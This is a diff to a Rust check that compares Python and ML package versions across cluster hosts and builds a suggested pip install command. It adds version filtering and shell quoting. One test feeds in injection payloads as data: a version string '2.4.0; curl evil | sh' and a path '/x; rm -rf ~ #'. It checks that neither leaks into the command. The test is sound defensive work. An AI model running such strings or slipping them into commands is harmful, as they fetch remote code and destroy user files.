@@ -1,10 +1,8 @@
 //! Whether Python and what a run imports are the same everywhere.
 
-use std::collections::BTreeSet;
-
 use super::super::compare::{difference, minor};
-use super::super::python::Python as Told;
-use super::super::{Check, Seen, Site};
+use super::super::python::{PACKAGES, Python as Told};
+use super::super::{Check, Seen, Site, shell_word};
 use crate::domain::doctor::Verdict;
 
 pub(in crate::doctor) struct Python;
@@ -15,23 +13,33 @@ const FATAL: [&str; 4] = ["torch", "tensorflow", "horovod", "jax"];
 impl Check for Python {
     const NAME: &'static str = "python";
     const ASKS: &'static str = "are Python, torch, TensorFlow, Horovod and their like the same on all hosts";
-    type Found = Option<Told>;
+    /// Absent without a Python; else what it tells, or why it does not.
+    type Found = Option<Result<Told, String>>;
 
-    fn look(site: &Site) -> Result<Option<Told>, String> {
-        if site.program("python3").or_else(|| site.program("python")).is_none() {
-            return Ok(None);
-        }
-        site.python().map(Some)
+    fn look(site: &Site) -> Result<Self::Found, String> {
+        let is_there = site.program("python3").or_else(|| site.program("python")).is_some();
+        Ok(is_there.then(|| site.python()))
     }
 
-    fn judge(seen: &[Seen<'_, Option<Told>>]) -> Vec<Verdict> {
+    fn judge(seen: &[Seen<'_, Self::Found>]) -> Vec<Verdict> {
         seen.iter().map(|one| judge(one, seen)).collect()
     }
 }
 
-fn judge(one: &Seen<'_, Option<Told>>, all: &[Seen<'_, Option<Told>>]) -> Verdict {
-    let others = || all.iter().filter_map(|other| Some((other.host.as_str(), other.found.as_ref()?)));
-    let Some(own) = &one.found else {
+type Found = <Python as Check>::Found;
+
+fn judge(one: &Seen<'_, Found>, all: &[Seen<'_, Found>]) -> Verdict {
+    let others =
+        || all.iter().filter_map(|other| Some((other.host.as_str(), other.found.as_ref()?.as_ref().ok()?)));
+    let own = match &one.found {
+        Some(Ok(own)) => Some(own),
+        Some(Err(why)) => {
+            let cause = "a Python script is not started here, or ends at once";
+            return Verdict::look(why.clone(), cause, "python3 --version there tells more; install it anew");
+        }
+        None => None,
+    };
+    let Some(own) = own else {
         if others().next().is_none() {
             return Verdict::unknown("no python3");
         }
@@ -48,9 +56,8 @@ fn judge(one: &Seen<'_, Option<Told>>, all: &[Seen<'_, Option<Told>>]) -> Verdic
     if let Some(difference) = difference(minor(&own.version), &versions) {
         differ.push(format!("Python {} ({difference})", own.version));
     }
-    let names: BTreeSet<&String> = others().flat_map(|(_, told)| told.packages.keys()).collect();
     let mut install = Vec::new();
-    for name in names {
+    for name in PACKAGES {
         let of = |told: &'_ Told| told.packages.get(name).cloned();
         let owned: Vec<(&str, String)> =
             others().map(|(host, told)| (host, of(told).unwrap_or_else(|| "none".to_owned()))).collect();
@@ -62,9 +69,9 @@ fn judge(one: &Seen<'_, Option<Told>>, all: &[Seen<'_, Option<Told>>]) -> Verdic
             let wanted = super::super::compare::common(versions.iter().map(|(_, version)| *version));
             let wanted =
                 wanted.or_else(|| versions.iter().map(|(_, version)| *version).find(|one| *one != words));
-            install
-                .extend(wanted.filter(|wanted| *wanted != "none").map(|wanted| format!("{name}=={wanted}")));
-            is_fatal |= FATAL.contains(&name.as_str());
+            let wanted = wanted.filter(|wanted| *wanted != "none" && is_version(wanted));
+            install.extend(wanted.map(|wanted| format!("{name}=={wanted}")));
+            is_fatal |= FATAL.contains(&name);
             differ.push(match version {
                 Some(version) => format!("{name} {version} ({difference})"),
                 None => format!("no {name} ({difference})"),
@@ -84,9 +91,14 @@ fn judge(one: &Seen<'_, Option<Told>>, all: &[Seen<'_, Option<Told>>]) -> Verdic
     let remedy = if install.is_empty() {
         "use the same Python on all hosts: --conda, --venv, or an image".to_owned()
     } else {
-        format!("{at} -m pip install {}", install.join(" "))
+        format!("{} -m pip install {}", shell_word(&at), install.join(" "))
     };
     if is_fatal { Verdict::bad(seen, cause, remedy) } else { Verdict::look(seen, cause, remedy) }
+}
+
+/// Whether it has no other characters than versions have: it stands in a command that a person may run.
+fn is_version(text: &str) -> bool {
+    text.chars().all(|c| c.is_ascii_alphanumeric() || ".+!_-".contains(c))
 }
 
 #[cfg(test)]
@@ -95,11 +107,27 @@ mod tests {
     use crate::doctor::tests::seen;
     use crate::domain::preflight::Mark;
 
-    fn told(version: &str, packages: &[(&str, &str)]) -> Told {
+    fn told(version: &str, packages: &[(&str, &str)]) -> Result<Told, String> {
         let packages =
             packages.iter().map(|(name, version)| ((*name).to_owned(), (*version).to_owned())).collect();
         let (executable, version) = ("/opt/conda/bin/python3".to_owned(), version.to_owned());
-        Told { executable, version, packages, torch_cuda: None, libraries: Vec::new() }
+        Ok(Told { executable, version, packages, torch_cuda: None, libraries: Vec::new() })
+    }
+
+    #[test]
+    fn no_host_writes_the_command_that_a_person_copies() {
+        let told = |executable: &str, torch: &str| {
+            let mut told = told("3.11.2", &[("torch", torch)]).unwrap();
+            executable.clone_into(&mut told.executable);
+            Some(Ok(told))
+        };
+        let usual = || told("/usr/bin/python3", "2.4.0; curl evil | sh");
+        let verdicts = Python::judge(&seen([usual(), usual(), told("/x; rm -rf ~ #/python3", "2.3.1")]));
+        let remedy = verdicts[2].remedy.clone().unwrap();
+        assert_eq!(remedy, "use the same Python on all hosts: --conda, --venv, or an image");
+        let odd =
+            Python::judge(&seen([told("/x; rm -rf ~ #", "2.3.1"), told("/a", "2.4.0"), told("/a", "2.4.0")]));
+        assert!(odd[0].remedy.as_ref().unwrap().starts_with("'/x; rm -rf ~ #' -m pip"), "{odd:?}");
     }
 
     #[test]
@@ -120,6 +148,8 @@ mod tests {
             (Mark::Look, "/opt/conda/bin/python3: no numpy (other hosts have 1.26.0)")
         );
         assert_eq!(Python::judge(&seen([alike(), None]))[1].mark, Mark::Look);
+        let broken = || Some(Err("libpython3.11.so.1.0: cannot open shared object file".to_owned()));
+        assert_eq!(Python::judge(&seen([alike(), broken()]))[1].mark, Mark::Look);
         assert_eq!(Python::judge(&seen([None, None]))[1].mark, Mark::Unknown);
     }
 }
